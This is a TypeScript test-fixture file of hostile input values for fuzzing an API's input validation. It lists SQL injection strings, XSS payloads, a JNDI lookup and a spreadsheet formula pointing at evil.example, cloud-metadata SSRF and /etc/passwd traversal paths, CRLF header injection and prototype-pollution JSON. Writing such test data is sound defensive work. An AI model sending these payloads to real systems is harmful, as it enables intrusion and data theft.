/** What no honest caller sends in a field, by what is wrong with it. */
export interface HostileValue {
  name: string;
  value: unknown;
  /** The reason for which it must be refused wherever it comes, if there is one. */
  always?: 'unstorable' | 'too large' | 'too deep';
  /** One of the few that represent all of them in the short form of the suite. */
  short?: true;
}

const nested = (depth: number): unknown => {
  let value: unknown = 'x';
  for (let level = 0; level < depth; level += 1) value = level % 2 ? [value] : { a: value };
  return value;
};

/** Texts: they can come in a body, in a query and in a path. */
export const HOSTILE_TEXTS: HostileValue[] = [
  { name: 'NUL', short: true, value: 'a\0b', always: 'unstorable' },
  { name: 'nothing', short: true, value: '' },
  { name: 'spaces', value: '   ' },
  { name: 'bidi override', short: true, value: 'gpj.\u202Eexe.\u2066x\u2069' },
  { name: 'zero width alone', value: '\u200B\u200D\uFEFF\u2060' },
  { name: 'zero width within', value: 'Ana\u200Bnya\u00AD' },
  { name: 'control characters', value: 'a\x07\x1B[31mred\x7F\x85b' },
  { name: 'CRLF and a header', value: 'a@b.example\r\nBcc: victim@example.com\r\n\r\nhello' },
  { name: 'line separator', value: 'a\u2028b\u2029c' },
  { name: 'combining marks', value: `Z${'\u0335\u0321\u034F'.repeat(60)}` },
  { name: 'variation selectors', value: 'a\uFE0F'.repeat(60) },
  { name: 'variation selectors, twice a usual limit', short: true, value: 'a\uFE0F'.repeat(190) },
  { name: 'variation selectors, twice a long limit', short: true, value: 'a\uFE0F'.repeat(4_900) },
  { name: 'emoji family', value: '👩‍👩‍👧‍👦' },
  { name: 'right to left', value: 'مرحبا' },
  { name: 'full width', value: 'ａｄｍｉｎ＠ｔｒｉａｄ．ｅｘａｍｐｌｅ' },
  { name: 'Kelvin sign', value: 'an\u212A@example.com' },
  { name: 'quote', value: "'" },
  { name: 'SQL', short: true, value: "'; DROP TABLE users; --" },
  { name: 'SQL that is true', value: "' OR '1'='1' /*" },
  { name: 'SQL that sleeps', value: '1); SELECT pg_sleep(10)--' },
  { name: 'a pattern of LIKE', value: '%_\\' },
  { name: 'a backslash at the end', value: '\\' },
  { name: 'a placeholder', value: '$1 :name ? {0} %s %n ${7*7} {{7*7}} <%= 7*7 %>' },
  { name: 'a look-up', value: '${jndi:ldap://evil.example/a}' },
  { name: 'HTML', value: '<script>alert(1)</script><img src=x onerror=alert(1)>' },
  { name: 'an attribute', value: '" onmouseover="alert(1)' },
  { name: 'SVG', value: '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>' },
  { name: 'a script address', value: 'javascript:alert(1)' },
  { name: 'a data address', value: 'data:text/html,<script>alert(1)</script>' },
  { name: 'an address inside', value: 'http://169.254.169.254/latest/meta-data/' },
  { name: 'a file address', value: 'file:///etc/passwd' },
  { name: 'a path upwards', value: '../../../../etc/passwd' },
  { name: 'a path upwards, encoded', short: true, value: '..%2f..%2f..%2fetc%2fpasswd%00' },
  { name: 'a path of Windows', value: '..\\..\\windows\\win.ini' },
  { name: 'a formula', value: '=HYPERLINK("http://evil.example","x")' },
  { name: 'two addresses', value: 'x,y@evil.example' },
  { name: 'an address with a name', value: 'foo<b@evil.example>' },
  { name: '__proto__', value: '__proto__' },
  { name: 'constructor', value: 'constructor' },
  { name: 'toString', value: 'toString' },
  { name: 'undefined', value: 'undefined' },
  { name: 'null in words', value: 'null' },
  { name: 'true in words', value: 'true' },
  { name: 'hexadecimal', short: true, value: '0x10' },
  { name: 'exponent', short: true, value: '1e3' },
  { name: 'octal', value: '010' },
  { name: 'a plus', value: '+1' },
  { name: 'negative', value: '-1' },
  { name: 'minus zero', value: '-0' },
  { name: 'NaN', value: 'NaN' },
  { name: 'Infinity', value: 'Infinity' },
  { name: 'beyond 32 bits', value: '2147483648' },
  { name: 'beyond 64 bits', short: true, value: '9223372036854775808' },
  { name: 'digits of another script', value: '१२३' },
  { name: 'a thousand digits', value: '9'.repeat(1_000) },
  { name: 'nil UUID', value: '00000000-0000-0000-0000-000000000000' },
  { name: 'UUID in braces', value: '{0199a1b2-7c3d-7e4f-8a5b-6c7d8e9f0a1b}' },
  { name: 'UUID and more', value: '0199a1b2-7c3d-7e4f-8a5b-6c7d8e9f0a1b; --' },
  { name: 'a day that is none', value: '2026-02-30' },
  { name: 'a moment that is none', value: '2026-02-30T00:00:00Z' },
  { name: 'the year 0', short: true, value: '0000-01-01T00:00:00Z' },
  { name: 'an offset that is none', value: '2026-01-01T00:00:00+23:59' },
  { name: 'the 24th hour', value: '2026-01-01T24:00:00Z' },
  {
    name: 'a cursor of no day',
    short: true,
    value: cursor('9999-99-99 99:99:99+99', '0199a1b2-7c3d-7e4f-8a5b-6c7d8e9f0a1b'),
  },
  {
    name: 'a cursor of 30 February',
    value: cursor('2026-02-30 00:00:00+00', '0199a1b2-7c3d-7e4f-8a5b-6c7d8e9f0a1b'),
  },
  {
    name: 'a cursor of the year 0',
    value: cursor('0000-01-01 00:00:00+00', '0199a1b2-7c3d-7e4f-8a5b-6c7d8e9f0a1b'),
  },
  {
    name: 'a cursor of a wild offset',
    value: cursor('2026-01-01 00:00:00+99:99', '0199a1b2-7c3d-7e4f-8a5b-6c7d8e9f0a1b'),
  },
  { name: 'a cursor of objects', value: Buffer.from('[{"a":1},{"b":2}]').toString('base64url') },
  { name: 'deep JSON in a text', value: '['.repeat(5_000) + ']'.repeat(5_000) },
  {
    name: 'JSON with __proto__ in a text',
    value: '{"__proto__":{"isAdmin":true},"title":"x","questions":[]}',
  },
  { name: 'a NUL in JSON in a text', value: '["a\\u0000b"]' },
  { name: 'a surrogate alone in JSON in a text', value: '["a\\ud800b"]' },
  { name: '6,000 characters', value: 'x'.repeat(6_000) },
];

/** Texts too long for an address. */
const LONG_TEXTS: HostileValue[] = [
  { name: '21,000 characters', value: 'x'.repeat(21_000) },
  { name: '900,000 characters', value: 'a.'.repeat(450_000) },
  { name: '900,000 spaces and a letter', value: `${' '.repeat(900_000)}x` },
  { name: 'more than 1 MB', value: 'x'.repeat(1_100_000), always: 'too large' },
];

/** What JSON can say, beyond texts. */
export const HOSTILE_JSON: HostileValue[] = [
  ...HOSTILE_TEXTS,
  ...LONG_TEXTS,
  { name: 'high surrogate alone', short: true, value: 'a\uD800b', always: 'unstorable' },
  { name: 'low surrogate alone', value: '\uDC00', always: 'unstorable' },
  { name: 'null', short: true, value: null },
  { name: 'true', short: true, value: true },
  { name: 'false', value: false },
  { name: 'zero', value: 0 },
  { name: 'minus one', value: -1 },
  { name: 'a fraction', value: 0.1 + 0.2 },
  { name: 'the largest number', value: Number.MAX_VALUE },
  { name: 'beyond whole numbers', value: 2 ** 53 + 2 },
  { name: 'beyond 32 bits as a number', value: 2 ** 31 },
  { name: 'an empty list', short: true, value: [] },
  { name: 'a list of texts', value: ['a', 'b'] },
  { name: 'a list of a list', value: [['a']] },
  { name: 'a list of null', value: [null] },
  { name: 'a long list', value: Array.from({ length: 6_000 }, () => 'x') },
  { name: 'an empty object', value: {} },
  { name: 'an operator', short: true, value: { $ne: null, $gt: '' } },
  { name: 'an object with toString', value: { toString: 'x', valueOf: 1, length: 3 } },
  {
    name: 'an object with a prototype',
    short: true,
    value: JSON.parse(
      '{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"isAdmin":true}}}',
    ) as unknown,
  },
  { name: '25 levels', short: true, value: nested(25), always: 'too deep' },
  { name: '4,000 levels', value: nested(4_000), always: 'too deep' },
  { name: 'a NUL in a name', value: { 'a\0b': 1 }, always: 'unstorable' },
];

function cursor(...keys: string[]): string {
  return Buffer.from(JSON.stringify(keys)).toString('base64url');
}
